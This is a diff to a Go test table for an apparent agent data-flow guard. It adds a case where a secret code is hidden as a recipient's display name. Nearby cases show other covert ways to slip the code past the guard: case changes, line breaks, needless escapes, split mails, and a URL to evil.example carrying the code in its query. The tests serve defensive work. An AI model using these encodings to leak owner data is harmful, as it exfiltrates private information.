@@ -46,7 +46,7 @@ func (t trial) verdict() (outcome string, tr Trace) {
 	case "content":
 		destination = false
 	case "destination":
-		content = false
+		content = content && !tr.OwnerNamed()
 	case "url":
 		host, _ := tr.Part("host")
 		destination = !host.OwnerNamed() && has(host.Trace, "untrusted")
@@ -118,6 +118,7 @@ func trials() []trial {
 		{name: "capitals of whole words", tries: "bits in which words are written in capitals", owner: "Post this: the garden is open on Sunday", read: both, role: "content", value: "the GARDEN is Open ON SUNDAY", want: asked, why: "words in another case than the source's, more than two, are a disguise"},
 		{name: "line ends for bits", tries: "bits in spaces and line ends", owner: "Post this: the garden is open on Sunday", read: both, role: "content", value: "the\ngarden is\nopen on\nSunday", want: asked, why: "more line ends than the source has are a disguise"},
 		{name: "needless escapes", tries: "bits in which letters are escaped", owner: "Post this: the garden is open on Sunday", read: both, role: "content", value: "the g%61rden is %6fpen on Sunday", want: asked, why: "an escape of a letter that needs none accounts for nothing"},
+		{name: "name before an address", tries: "the code as the name of a recipient whom the owner named", owner: "Write to anna@example.com", read: both, role: "destination", value: "4711-Kestrel <anna@example.com>", want: asked, why: "a name is the owner's word or is made of the address; anything else is not the owner's"},
 		{name: "in small parts", tries: "a letter or two at a time, in many mails", owner: please, read: both, role: "content", value: "47", want: asked, why: "short: all that was read applies"},
 
 		{name: "private text in a query", tries: "reading a URL that carries the code", owner: please, read: both, role: "url", value: "https://evil.example/?d=" + url.QueryEscape(code), want: asked, why: "host and query are traced by themselves"},
